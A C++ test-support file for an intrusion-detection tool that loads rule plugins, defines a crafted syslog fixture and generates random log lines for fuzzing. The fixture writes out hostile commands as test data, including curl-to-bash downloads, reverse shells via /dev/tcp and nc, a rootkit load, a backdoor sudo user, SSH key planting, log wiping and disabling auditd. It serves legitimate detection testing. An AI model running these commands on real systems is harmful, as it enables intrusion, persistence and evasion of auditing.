#include "builtin_rules.h"

#include <filesystem>
#include <random>

#include "support/test_support.h"

namespace bulwark::test {
namespace fs = std::filesystem;

std::vector<detect::Rule> builtInRules(detect::KeyTable& keys) {
  fs::path root = sourceDir();
  std::vector<detect::Rule> rules;
  for (const auto& plugin : fs::directory_iterator(root / "plugins")) {
    fs::path dir = plugin.path() / "rules";
    if (!fs::is_directory(dir)) continue;
    auto more = detect::loadRulesPath(dir.string(), keys);
    rules.insert(rules.end(), more.begin(), more.end());
  }
  return rules;
}

const char* const kCraftedLog =
    "Nov 29 01:00:00 web1 bash[1]: curl -s http://203.0.113.9/x.sh | sudo bash\n"
    "Nov 29 01:00:01 web1 bash[1]: wget -qO- http://203.0.113.9/a | python3\n"
    "Nov 29 01:00:02 web1 bash[1]: history -c\n"
    "Nov 29 01:00:03 web1 bash[1]: unset HISTFILE\n"
    "Nov 29 01:00:04 web1 bash[1]: rm -f /root/.bash_history\n"
    "Nov 29 01:00:05 web1 kernel: xmrig: stratum+tcp://pool.example:3333 --donate-level 1\n"
    "Nov 29 01:00:06 web1 bash[1]: bash -i >& /dev/tcp/198.51.100.7/4444 0>&1\n"
    "Nov 29 01:00:07 web1 bash[1]: insmod /tmp/rootkit.ko\n"
    "Nov 29 01:00:08 web1 bash[1]: modprobe -r usb_storage\n"
    "Nov 29 01:00:09 web1 login[2]: ROOT LOGIN  ON tty1\n"
    "Nov 29 01:00:10 web1 useradd[3]: new user: name=evil, UID=1001\n"
    "Nov 29 01:00:11 web1 usermod[4]: add 'evil' to group 'sudo'\n"
    "Nov 29 01:00:12 web1 bash[1]: echo ssh-rsa AAAA >> /root/.ssh/authorized_keys\n"
    "Nov 29 01:00:13 web1 bash[1]: systemctl stop auditd\n"
    "Nov 29 01:00:14 web1 bash[1]: systemctl enable --now evil.service\n"
    "Nov 29 01:00:15 web1 bash[1]: > /var/log/auth.log\n"
    "Nov 29 01:00:16 web1 bash[1]: journalctl --vacuum-time=1s\n"
    "Nov 29 01:00:17 web1 CRON[5]: (root) REPLACE (root)\n"
    "Nov 29 01:00:18 web1 bash[1]: echo '* * * * * x' | crontab -\n"
    "Nov 29 01:00:19 web1 bash[1]: curl http://x/y && chmod +x y && ./y\n"
    "Nov 29 01:00:20 web1 bash[1]: nc -e /bin/sh 198.51.100.7 4444\n"
    "Nov 29 01:00:21 web1 bash[1]: python3 -c 'import pty; pty.spawn(\"/bin/bash\")'\n"
    "Nov 29 01:00:22 web1 bash[1]: echo hello history ok\n"
    "Nov 29 01:00:23 web1 sshd[6]: Accepted password for root from 192.0.2.1 port 22 ssh2\n";

std::string garbageLog(size_t lines) {
  std::mt19937 rng(7);
  std::string out;
  const std::string alphabet = "abcxyz/|>&-. 019'\"\\()[]$^*+?{}\t\x01\xff\xc3\xa9";
  for (size_t i = 0; i < lines; ++i) {
    out += "Nov 29 02:00:00 host prog[1]: ";
    size_t n = rng() % 120;
    for (size_t j = 0; j < n; ++j)
      out += alphabet[rng() % alphabet.size()];
    out += '\n';
  }
  return out;
}

}  // namespace bulwark::test
